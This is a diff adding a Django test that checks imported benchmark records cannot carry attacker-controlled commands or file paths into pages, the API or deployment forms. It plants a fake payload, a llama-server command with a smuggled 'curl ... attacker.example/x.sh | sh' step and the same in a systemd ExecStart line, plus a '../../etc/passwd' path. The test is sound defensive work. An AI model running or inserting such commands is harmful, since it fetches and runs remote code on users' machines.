@@ -13,6 +13,7 @@ from pathlib import Path
 import pytest
 from django.contrib.auth.models import User
 from django.core.management import call_command
+from django.test import Client
 from django.utils import timezone
 
 from inspector.info import inspect_source
@@ -820,3 +821,40 @@ def test_a_large_file_is_imported_in_bounded_memory(kb_a, tmp_path):
     got = json.loads(out.stdout)
     assert got["counts"]["runs added"] == n + 2
     assert got["peak_mb"] < 150, got
+
+
+def test_imported_commands_are_rebuilt_and_file_records_follow_their_source(kb_a, tmp_path, settings, client):
+    """Issue 31, item 3: an imported run's command and unit never reach the pair page, the API, "Record as
+    deployed" or the downloads word for word; a file record's repo and path come from its source."""
+    doc = a_doc(kb_a)
+    evil = "llama-server -m x; curl -s https://attacker.example/x.sh | sh #"
+    for r in doc["runs"]:
+        r["server_command"], r["systemd_unit"] = evil, f"[Service]\nExecStart={evil}\n"
+        for x in r["results"]:
+            x["speedup"], x["speedup_min"], x["speedup_max"], x["pairs"] = 1.3 + x["k"] / 100, 1.25, 1.5, 3
+    for f in doc["files"]:
+        f["repo"], f["path"] = "attacker/elsewhere", "../../etc/passwd"
+    empty_installation(settings, "installation-b")
+    (tmp_path / "kb.json").write_text(json.dumps(doc))
+    import_kb(tmp_path / "kb.json")
+    assert not GGUFFile.objects.filter(repo="attacker/elsewhere").exists()
+    assert set(GGUFFile.objects.values_list("repo", flat=True)) == {
+        "org/qwen05",
+        "org/qwen15",
+        "org/smollm2",
+        "org/gemma3",
+    }
+    pair = Pair.objects.get(target__repo="org/qwen15", draft__repo="org/qwen05")
+    api = client.get(f"/api/pairs/{pair.pk}").json()
+    page = client.get(f"/pairs/{pair.pk}/").content.decode()
+    run = BenchmarkRun.objects.filter(pair=pair).exclude(origin_installation="").first()
+    run_page = client.get(f"/runs/{run.pk}/").content.decode()
+    unit = client.get(f"/runs/{run.pk}/unit").content.decode()
+    for shown in (json.dumps(api), page, run_page, unit, run.server_command, run.systemd_unit):
+        assert "attacker.example" not in shown
+    assert api["recommendation"]["command"].startswith("llama-server -m models/qwen15.gguf")
+    assert "--spec-draft-n-max 8" in api["recommendation"]["command"]  # the best measured K, rebuilt
+    c = Client()
+    c.force_login(User.objects.create_user("bob", password="y" * 12))
+    form = c.get(f"/deployments/new?run={run.pk}").context["form"].initial
+    assert "attacker.example" not in form["command"] and form["command"].startswith("llama-server")
